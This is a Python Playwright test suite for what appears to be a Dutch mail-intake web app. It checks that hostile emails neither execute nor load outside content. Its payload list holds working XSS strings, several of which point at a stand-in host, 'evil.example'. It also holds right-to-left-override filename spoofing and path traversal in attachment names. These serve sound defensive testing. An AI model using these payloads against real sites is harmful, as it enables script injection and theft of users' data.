"""Mails made to harm who looks at them: in a real browser nothing runs, nothing leaves, nothing hides."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from bot.store import cases
from tests.web.browsing import come_in
from tests.web.office import Office
from tests.web.stories import Letter, let_write

#: Each would call `alert`, load from outside or change the page, if any of it were obeyed.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><use href='https://evil.example/x.svg#a'/></svg>",
    "<iframe src='https://evil.example/'></iframe>",
    "<a href='javascript:alert(1)'>klik</a>",
    "javascript:alert(1)//",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    "{{ 7 * 7 }}{% print(1) %}${7*7}",
    "<form action=https://evil.example/><input name=token></form>",
    "<base href=https://evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "https://evil.example/volg?wie=anne",
)

NAME = "Piet " + "van".join("x" * 30 for _ in range(9)) + " <script>alert(1)</script>"


def hostile(index: int, payload: str) -> Letter:
    return Letter(
        name=payload.replace('"', "'").replace("\\", "")[:120],
        address=f"piet{index}@example.com",
        subject=f"{payload} \u202egnp.exe",
        text=f"Graag een overzicht van alle gegevens.\n{payload}\n\u202egnirts\u202c verborgen\u200b teken",
        attachment=(f"../../{payload}\u202efdp.exe", b"<script>alert(1)</script>"),
    )


@pytest.fixture
def watched(browser: Browser, office: Office) -> Iterator[tuple[Page, list[str]]]:
    """A browser window and a list of everything that should not have happened in it."""
    context = browser.new_context(locale="nl-NL")
    page = context.new_page()
    wrong: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        wrong.append(dialog.message)
        dialog.dismiss()

    page.on(
        "request",
        lambda request: None if request.url.startswith(office.url) else wrong.append(request.url),
    )
    page.on("dialog", dismiss)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("console", lambda line: wrong.append(line.text) if line.type == "error" else None)
    yield page, wrong
    context.close()


def references(office: Office) -> list[str]:
    with office.store.read() as work:
        return [case.reference for case in cases.queue(work)]


def test_nothing_of_a_hostile_mail_runs_or_leaves(watched: tuple[Page, list[str]], office: Office) -> None:
    page, wrong = watched
    let_write(office.store, *(hostile(index, payload) for index, payload in enumerate(PAYLOADS)))
    come_in(page, office)
    found = references(office)
    assert len(found) == len(PAYLOADS)
    for path in ["/", "/dagoverzicht", *(f"/dossiers/{reference}" for reference in found)]:
        page.goto(f"{office.url}{path}")
        assert page.locator("script").count() == 1, path
        assert page.locator("iframe, svg, math, base, object, embed, meta[http-equiv]").count() == 0, path
        assert page.locator("[onerror], [onload], [onfocus], a[href^='javascript']").count() == 0, path
        assert page.locator("main").is_visible()

    assert wrong == []


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_a_hostile_mail_is_shown_as_the_text_that_it_is(
    watched: tuple[Page, list[str]], office: Office, payload: str
) -> None:
    page, wrong = watched
    let_write(office.store, hostile(1, payload))
    come_in(page, office)
    page.goto(f"{office.url}/dossiers/{references(office)[0]}")

    expect(page.locator(".mail .text")).to_contain_text(payload)
    expect(page.locator(".mail .text")).to_contain_text("⟨U+202E⟩gnirts")
    expect(page.locator(".mail .text")).to_contain_text("verborgen⟨U+200B⟩")
    assert "\u202e" not in page.content()
    assert wrong == []


def test_a_name_without_end_breaks_no_page(watched: tuple[Page, list[str]], office: Office) -> None:
    page, wrong = watched
    let_write(office.store, Letter(NAME.replace('"', ""), "piet@example.com", "x" * 900, "y" * 4000))
    come_in(page, office)
    for width in (320, 1280):
        page.set_viewport_size({"width": width, "height": 800})
        for path in ("/", f"/dossiers/{references(office)[0]}"):
            page.goto(f"{office.url}{path}")
            assert page.evaluate("document.documentElement.scrollWidth") <= width, path

    assert wrong == []


def test_an_attachment_is_saved_and_never_opened(watched: tuple[Page, list[str]], office: Office) -> None:
    page, wrong = watched
    let_write(office.store, hostile(1, PAYLOADS[0]))
    come_in(page, office)
    page.goto(f"{office.url}/dossiers/{references(office)[0]}")
    link = page.locator(".files a")
    answer = page.request.get(f"{office.url}{link.get_attribute('href')}")

    assert answer.body() == b"<script>alert(1)</script>"
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-disposition"].startswith("attachment; ")
    assert "/" not in answer.headers["content-disposition"].partition(";")[2].partition(";")[0]
    with page.expect_download() as saved:
        link.click()
    assert "\u202e" not in saved.value.suggested_filename
    assert wrong == []
